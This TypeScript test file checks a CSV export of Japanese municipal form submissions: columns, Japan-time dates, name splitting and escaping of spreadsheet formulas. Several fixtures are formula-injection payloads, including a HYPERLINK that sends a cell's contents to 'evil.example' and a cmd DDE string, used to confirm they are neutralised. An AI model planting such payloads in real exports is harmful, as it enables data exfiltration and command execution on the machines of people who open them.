import { describe, expect, it } from 'vitest';
import { realForm } from '../../../lib/forms/test/real-forms';
import { jaWords } from '../test/words';
import { csvTable, type ExportRow } from './csv-table';

const form = realForm('bulky-waste');
const row = (answers: Record<string, unknown> | undefined, receiptNumber = 'IW-2026-000001'): ExportRow => ({
  receiptNumber, receivedAt: '2026-11-24T23:47:05.000Z', status: 'received', answers,
});

describe('one CSV row per submission', () => {
  it('has the fixed columns, then each field’s label, with 氏名 and フリガナ as two columns', () => {
    const [header] = csvTable(form, [], jaWords);
    expect(header?.slice(0, 5)).toEqual(['受付番号', '受付日時', '状態', '確認', '品目']);
    const name = header?.indexOf('氏名') ?? -1;
    expect(header?.[name + 1]).toBe('氏名（フリガナ）');
  });

  it('writes received time in Japan time, multi-choice one option per line and names split', () => {
    const table = csvTable(form, [row({ itemKinds: ['chest', 'table'], name: { name: '磐城 太郎', kana: 'イワキ タロウ' }, itemCount: 2 })], jaWords);
    const [header, first] = table;
    const cell = (label: string) => first?.[header?.indexOf(label) ?? -1];
    expect(first?.slice(0, 3)).toEqual(['IW-2026-000001', '2026-11-25 08:47:05', '未処理']);
    // With 「・」 between options this was 「たんす・棚・机・テーブル」: two options or four?
    expect(cell('品目')).toBe('たんす・棚\n机・テーブル');
    expect(cell('氏名')).toBe('磐城 太郎');
    expect(cell('氏名（フリガナ）')).toBe('イワキ タロウ');
    expect(table.every((r) => r.length === header?.length)).toBe(true);
  });

  it('writes an attached file as its name only', () => {
    const photo = { name: 'light.jpg', type: 'image/jpeg', size: 3, dataBase64: 'AAAA'.repeat(100) };
    const [header, first] = csvTable(realForm('road-light-report'), [row({ photo })], jaWords);
    expect(first?.[header?.indexOf('写真（任意）') ?? -1]).toBe('light.jpg');
    expect(first?.join('')).not.toContain('AAAA');
  });

  it('keeps Excel from running a formula a citizen typed', () => {
    const [header, first] = csvTable(form, [row({ otherItem: '=HYPERLINK("http://evil")' })], jaWords);
    expect(first?.[header?.indexOf('その他の品目') ?? -1]).toBe(`'=HYPERLINK("http://evil")`);
  });

  it('keeps a row with empty answers for a submission that could not be decrypted', () => {
    const [header, first] = csvTable(form, [row(undefined)], jaWords);
    expect(first?.length).toBe(header?.length);
    expect(first?.slice(4).every((c) => c === '')).toBe(true);
  });

  it('adds columns at the end for answers the form does not have', () => {
    const [header, first] = csvTable(form, [row({ legacyField: 'x' })], jaWords);
    expect(header?.at(-1)).toBe('legacyField');
    expect(first?.at(-1)).toBe('"x"');
  });

  it('neutralises a formula by its value, whatever the field: a number field can hold text from a crafted ciphertext', () => {
    const attack = '=HYPERLINK("http://evil.example/?x="&B2,"詳細")';
    const [header, first] = csvTable(form, [row({ itemCount: attack, name: { name: '@SUM(1+1)', kana: '+イワキ' }, phone: '\t=1+1' })], jaWords);
    const cell = (label: string) => first?.[header?.indexOf(label) ?? -1];
    expect(cell('全部の点数')).toBe(`'${attack}`);
    expect(cell('氏名')).toBe(`'@SUM(1+1)`);
    expect(cell('氏名（フリガナ）')).toBe(`'+イワキ`);
    expect(cell('電話番号')).toBe(`'\t=1+1`);
  });

  it('leaves a real number a number, negative ones too', () => {
    const [header, first] = csvTable(form, [row({ itemCount: -2 }), row({ itemCount: 3 })], jaWords);
    expect(first?.[header?.indexOf('全部の点数') ?? -1]).toBe('-2');
  });

  it('neutralises answer ids the form does not have, which become headings', () => {
    const [header, first] = csvTable(form, [row({ '=cmd|\' /C calc\'!A0': '-1+1' })], jaWords);
    expect(header?.at(-1)).toBe(`'=cmd|' /C calc'!A0`);
    expect(first?.at(-1)).toBe('"-1+1"');
  });

  it('flags answers that do not fit the form, naming the fields, and leaves fitting ones unflagged', () => {
    const [header, fits, misfit] = csvTable(
      form,
      [row(validAnswers), row({ ...validAnswers, itemCount: 999, phone: { nested: true }, consent: 'yes', injected: 1 }, 'IW-2026-000002')],
      jaWords,
    );
    const check = header?.indexOf('確認') ?? -1;
    expect(fits?.[check]).toBe('');
    expect(misfit?.[check]).toBe('フォームに合わない回答: 全部の点数、電話番号、個人情報の取り扱いへの同意、injected');
  });
});

const validAnswers = {
  itemKinds: ['chest'],
  itemCount: 1,
  preferredDate: '2026-12-04', // a Friday: collection is on working days
  collectionPlace: 'entrance',
  name: { name: '磐城 太郎', kana: 'イワキ タロウ' },
  postalCode: '970-8026',
  address: 'いわき市平字梅本 21',
  phone: '0246-22-1111',
  consent: true,
};
